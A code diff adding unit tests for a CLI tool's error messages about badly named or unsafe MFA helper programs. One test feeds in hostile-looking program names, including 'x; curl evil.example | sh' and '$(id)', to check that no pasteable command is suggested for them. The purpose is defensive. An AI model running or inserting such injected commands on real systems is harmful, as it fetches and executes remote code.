@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { fakeIo } from '../../../test/support/fake-io.ts';
-import { type ErrorCode, type ErrorFields, StepupError } from '../../errors.ts';
+import { type ErrorCode, type ErrorFields, type PathProblem, StepupError } from '../../errors.ts';
 import { reportError } from '../report-error.ts';
 
 function told<Code extends ErrorCode>(
@@ -16,6 +16,14 @@ function told<Code extends ErrorCode>(
 const UNREACHABLE = { host: 'sts.amazonaws.com', problem: 'timeout', detail: 'no answer in 30 s', sent: true } as const;
 
 const lastWay = (perhaps: readonly string[]) => ({ type: 'last-way-in', arn: 'ROLE', operator: 'ME', perhaps });
+
+const named = (program: string) =>
+  ({ key: 'mfa_process', path: '/c', line: 2, problem: 'not-absolute', program }) as const;
+
+const unsafe = (problem: PathProblem) => ({
+  ...{ key: 'mfa_process', program: '/b/get it', path: '/c' },
+  fault: { path: '/b/get it', problem },
+});
 
 describe('an error is told', () => {
   it('as what happened, why, and what to do next', () => {
@@ -38,6 +46,9 @@ describe('an error is told', () => {
     ['endpoint-unreachable', { ...UNREACHABLE, problem: 'tls' }, 1, ['NODE_EXTRA_CA_CERTS']],
     ['setup-refused', { refusals: [lastWay([])] }, 1, ['nobody would get into it any more']],
     ['setup-refused', { refusals: [lastWay(['ROLE/a', 'USER/b'])] }, 1, ['source address: perhaps ROLE/a, USER/b']],
+    ['program-named-badly', named('get.sh'), 1, ['`command -v get.sh` shows it']],
+    ['program-not-started', { program: '/b/get', detail: 'ENOENT' }, 1, ['what its first line names']],
+    ['program-source-unsafe', unsafe('writable-by-others'), 1, ["chmod go-w '/b/get it'"]],
     [
       'aws-refused',
       { operation: 'GetSessionToken', awsCode: 'Throttling', status: 400, message: 'Rate exceeded' },
@@ -60,6 +71,26 @@ describe('an error is told', () => {
     expect(shown.exit).toBe(exit);
     for (const word of words) expect(shown.text).toContain(word);
     expect(shown.text).not.toContain('undefined');
+  });
+
+  it.each(['x; curl evil.example | sh', '$(id)', '~/bin/get', '$HOME/bin/get', './bin/get', 'AWS_PROFILE=q'])(
+    'with no command to paste for a program named as %s',
+    (program) => {
+      const { text } = told('program-named-badly', named(program));
+      expect(text).not.toContain('command -v');
+      expect(text).not.toContain('bare name');
+      expect(text).toContain('no ~, no variables');
+    },
+  );
+
+  it.each<[PathProblem, string]>([
+    ['owned-by-another', 'a copy that is yours'],
+    ['not-a-regular-file', 'Name a regular file'],
+    ['symbolic-link', 'by a path that leads to it'],
+  ])('with what helps a program that may not run: %s', (problem, words) => {
+    const { text } = told('program-source-unsafe', unsafe(problem));
+    expect(text).toContain(words);
+    expect(text).not.toContain('chmod');
   });
 
   it('with what others wrote made harmless', () => {
